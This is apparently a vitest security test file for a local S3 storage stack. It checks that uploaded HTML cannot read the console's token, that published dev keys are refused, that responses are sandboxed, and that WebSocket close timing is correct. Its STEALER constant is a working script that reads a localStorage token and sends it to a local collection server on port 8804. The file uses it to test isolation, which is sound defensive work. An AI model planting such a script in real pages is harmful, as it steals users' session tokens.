// The local stack as a browser meets it (docs/trust.md, "Local storage"; docs/events.md, "Closing"), in
// Debian's chromium (headless, playwright-core) against `wrangler dev` started by the stack library:
// an object uploaded through a presigned URL never runs on the console's origin, the local S3 API takes
// no public key, and a WebSocket on a finished job closes right after its `end` (Node's WebSocket waits for the
// server to end the connection; Chromium reports the close at once either way).
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { AwsClient } from "aws4fetch";
import { chromium, type Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureDevVars, ROOT, startApi, type Service } from "@s3/scripts/stack";

const API_PORT = 8803;
const LEAK_PORT = 8804;
const ORIGIN = `http://127.0.0.1:${API_PORT}`;
const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const TOKEN = "the-console-token";
/** Reads the console's token and reports it two ways: the page title and a request to LEAK_PORT. */
const STEALER = `<!doctype html><title>object</title><script>
  const token = localStorage.getItem("s3.token");
  document.title = "read:" + token;
  fetch("http://127.0.0.1:${LEAK_PORT}/?token=" + encodeURIComponent(token), { mode: "no-cors" });
</script>`;

const work = mkdtempSync(path.join(tmpdir(), "s3-dev-stack-"));
let api: Service | undefined;
let leakServer: Server | undefined;
let browser: Browser;
const leaks: string[] = [];

async function call<T>(method: string, route: string, token?: string, body?: unknown): Promise<T> {
  const response = await fetch(`${ORIGIN}${route}`, {
    method,
    headers: {
      ...(token ? { Authorization: `Bearer ${token}` } : {}),
      ...(body ? { "Content-Type": "application/json" } : {}),
    },
    body: body ? JSON.stringify(body) : undefined,
  });
  const envelope = (await response.json()) as { data: T };
  if (!response.ok) throw new Error(`${method} ${route}: ${response.status}`);
  return envelope.data;
}

/** A user's one-item job: its presigned upload URL, and a GET of the same object signed with the stack's keys. */
async function uploadedObject(body: string, contentType: string): Promise<{ getUrl: string }> {
  const user = await call<{ token: string }>("POST", "/auth/anon");
  const job = await call<{ upload: { url: string }[] }>("POST", "/jobs", user.token, {
    preset: "interior",
    item_count: 1,
  });
  const putUrl = job.upload[0]!.url;
  const put = await fetch(putUrl, { method: "PUT", headers: { "Content-Type": contentType }, body });
  expect(put.status).toBe(200);
  const keys = ensureDevVars();
  const aws = new AwsClient({
    accessKeyId: keys.STORAGE_ACCESS_KEY!,
    secretAccessKey: keys.STORAGE_SECRET_KEY!,
    service: "s3",
    region: "auto",
  });
  const object = new URL(putUrl);
  const signed = await aws.sign(`${object.origin}${object.pathname}`, { method: "GET", aws: { signQuery: true } });
  return { getUrl: signed.url };
}

beforeAll(async () => {
  const ensure = spawnSync("bash", [path.join(ROOT, "scripts/ensure-chromium.sh")], { encoding: "utf8" });
  if (ensure.status !== 0) throw new Error(`chromium is not available: ${ensure.stderr}`);
  api = await startApi({ port: API_PORT, persistTo: path.join(work, "state"), quiet: true, name: "dev-stack-api" });
  leakServer = createServer((request, response) => {
    leaks.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => leakServer!.listen(LEAK_PORT, "127.0.0.1", resolve));
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: ["--no-sandbox", "--disable-gpu"],
  });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  leakServer?.close();
  await api?.stop();
  rmSync(work, { recursive: true, force: true });
});

describe("local storage origin", () => {
  it("an HTML object uploaded via a presigned URL and opened cannot read the console's token", async () => {
    const page = await browser.newPage();
    await page.goto(`${ORIGIN}/`);
    await page.evaluate((token) => localStorage.setItem("s3.token", token), TOKEN);
    const { getUrl } = await uploadedObject(STEALER, "text/html");

    const opened = await page.goto(getUrl).then(
      async () => ({ origin: await page.evaluate(() => location.origin), title: await page.title() }),
      (error: Error) => ({ refused: error.message }),
    );
    // Give a script that did run the time to report.
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(JSON.stringify(opened)).not.toContain(TOKEN);
    expect(leaks.filter((leak) => leak.includes(TOKEN))).toEqual([]);
    expect(new URL(getUrl).origin).not.toBe(ORIGIN);
    await page.close();
  });

  it("the S3 API on the console's origin refuses the keys once published in the repo (401)", async () => {
    const published = new AwsClient({
      accessKeyId: "local-dev-access-key",
      secretAccessKey: "local-dev-secret-key",
      service: "s3",
      region: "auto",
    });
    const answer = await published.fetch(`${ORIGIN}/cdn-cgi/local/r2/s3/s3-images/drive-by.html`, {
      method: "PUT",
      headers: { "Content-Type": "text/html" },
      body: STEALER,
    });
    expect(answer.status).toBe(401);
  });

  it("storage answers are sandboxed and never sniffed; anything but a photo is a download", async () => {
    const html = await fetch((await uploadedObject(STEALER, "text/html")).getUrl);
    expect(html.status).toBe(200);
    expect(html.headers.get("content-security-policy")).toMatch(/^sandbox;/);
    expect(html.headers.get("x-content-type-options")).toBe("nosniff");
    expect(html.headers.get("content-disposition")).toBe("attachment");
    const photo = await fetch((await uploadedObject("not really a png", "image/png")).getUrl);
    expect(photo.headers.get("content-security-policy")).toMatch(/^sandbox;/);
    expect(photo.headers.get("content-disposition")).toBeNull();
  });
});

describe("events socket close", () => {
  /** A canceled job: its socket sends `snapshot` and `end`, then closes. */
  async function finishedJob(): Promise<{ url: string; protocols: string[] }> {
    const user = await call<{ token: string }>("POST", "/auth/anon");
    const job = await call<{ job_id: string }>("POST", "/jobs", user.token, { preset: "interior", item_count: 1 });
    await call("POST", `/jobs/${job.job_id}/cancel`, user.token);
    return {
      url: `ws://127.0.0.1:${API_PORT}/jobs/${job.job_id}/events`,
      protocols: ["s3.v1", `bearer.${user.token}`],
    };
  }

  /** Milliseconds from the `end` message to the close event, and the close's code and cleanness. */
  const endToClose = ({ url, protocols }: { url: string; protocols: string[] }) =>
    new Promise<{ ms: number; code: number; clean: boolean }>((resolve) => {
      const socket = new WebSocket(url, protocols);
      let endAt = 0;
      socket.addEventListener("message", (message) => {
        if ((JSON.parse(String(message.data)) as { type: string }).type === "end") endAt = performance.now();
      });
      socket.addEventListener("close", (event) =>
        resolve({ ms: performance.now() - endAt, code: event.code, clean: event.wasClean }),
      );
    });

  // workerd ended a hibernatable socket's connection 10 s after the close handshake;
  // 3 s leaves room for a slow machine.
  it("Node's WebSocket gets the close (1000, clean) right after end, not 10 s later", async () => {
    const closed = await endToClose(await finishedJob());
    expect(closed).toMatchObject({ code: 1000, clean: true });
    expect(closed.ms).toBeLessThan(3_000);
  });
});
